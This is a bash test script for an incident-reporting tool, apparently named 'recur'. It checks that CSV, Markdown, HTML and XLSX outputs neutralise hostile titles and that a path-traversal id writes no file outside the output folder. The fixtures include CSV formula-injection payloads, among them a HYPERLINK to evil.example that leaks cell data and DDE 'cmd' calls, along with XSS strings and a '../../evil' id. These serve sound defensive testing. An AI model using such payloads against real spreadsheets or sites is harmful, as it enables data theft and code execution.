#!/usr/bin/env bash
# Incident text that looks like code stays text on every way out: imported
# from a CSV of hostile titles, linked, and reported, it must be neutralised
# in CSV output ('=…), escaped in Markdown tables (\| and no line break) and
# in HTML (no tag or javascript: link made from data), a text cell (never a
# formula) in the XLSX, and an incident id cannot choose where a report file
# is written.
set -u
cd "$(dirname "$0")/../.."
RECUR="${RECUR:-$PWD/build/recur}"
export LC_ALL=C TZ=UTC
. tests/check/common.bash
cd "$tmp" || exit 1

/usr/bin/python3 - <<'PY'
import csv
titles = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 after a tab",
          "pipe | in title\nand a second line", "<script>alert(1)</script>",
          "<img src=x onerror=alert(2)>", "[click](javascript:alert(3))",
          "**bold** _x_ `code` # no heading"]
rows = [["id", "title", "opened_at", "resolved_at", "service", "severity"]]
for i, t in enumerate(titles):
    for k in range(2):  # twice, so each title is also a recurring problem
        rows.append(["X-%d%d" % (i, k), t, "2026-10-%02d 10:00" % (i + 1 + 12 * k),
                     "2026-10-%02d 12:00" % (i + 1 + 12 * k), "=svc()" if i == 0 else "web", "P2"])
csv.writer(open("hostile.csv", "w", newline="")).writerows(rows)
PY
"$RECUR" --db h.db import hostile.csv >/dev/null && "$RECUR" --db h.db link >/dev/null
result $? "import and link the hostile titles"

"$RECUR" --db h.db problems --format csv >problems.csv
"$RECUR" --db h.db metrics --month 2026-10 --format csv >metrics.csv
for f in problems.csv metrics.csv; do
	/usr/bin/python3 - "$f" <<'PY'
import csv, sys
bad = [c for row in csv.reader(open(sys.argv[1], newline="")) for c in row
       if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].replace(".", "").isdigit())]
for c in bad:
    print("#   not neutralised: %r" % c)
sys.exit(1 if bad else 0)
PY
	result $? "$f: no cell starts with = + - @ TAB (numbers keep their sign)"
done
grep -q "\"'=HYPERLINK" problems.csv metrics.csv
result $? "the formula-looking text is kept, behind a quote"

"$RECUR" --db h.db --now 2026-11-26 report --month 2026-10 --out rep >/dev/null 2>err
result $? "recur report writes Markdown, HTML and XLSX"
md=rep/review-2026-10.md html=rep/review-2026-10.html xlsx=rep/review-2026-10.xlsx
grep -q '^| X-50 | .* | pipe \\| in title and a second line |' "$md"
result $? "Markdown: '|' escaped and the line break folded inside a table row"
! grep -q '^and a second line' "$md"
result $? "Markdown: no table row is split by a title's line break"
! grep -qE '(^|[^\\])<(script|img)' "$md"
result $? "Markdown: no raw HTML tag from a title"
! grep -qiE '<script|<img|href="javascript' "$html"
result $? "HTML: no tag or javascript: link made from incident text"
grep -q '&lt;script&gt;alert(1)&lt;/script&gt;' "$html"
result $? "HTML: the title is shown, escaped"
/usr/bin/python3 - "$xlsx" <<'PY'
import sys, zipfile
import openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
         if isinstance(c.value, str) and c.value[:1] in "=+-@\t"]
formulas = [c for c in cells if c.data_type == "f"]
raw = any(b"<f>" in zipfile.ZipFile(sys.argv[1]).read(n) for n in zipfile.ZipFile(sys.argv[1]).namelist()
          if n.startswith("xl/worksheets/"))
print("# %d formula-looking text cells, %d formulas" % (len(cells), len(formulas)))
sys.exit(0 if cells and not formulas and not raw else 1)
PY
result $? "XLSX: formula-looking titles are text cells, no <f> in any sheet"

printf 'id,title,opened_at\n../../evil,Traversal,2026-10-03 10:00\n' >ids.csv
"$RECUR" --db h.db import ids.csv >/dev/null
"$RECUR" --db h.db --now 2026-11-26 report --incident ../../evil --out deep/er >/dev/null 2>&1
[ ! -e evil.md ] && [ ! -e deep/evil.md ] && [ -z "$(find . -name '*evil*' ! -path ./ids.csv)" ]
result $? "an incident id with ../ writes no file outside the output folder"
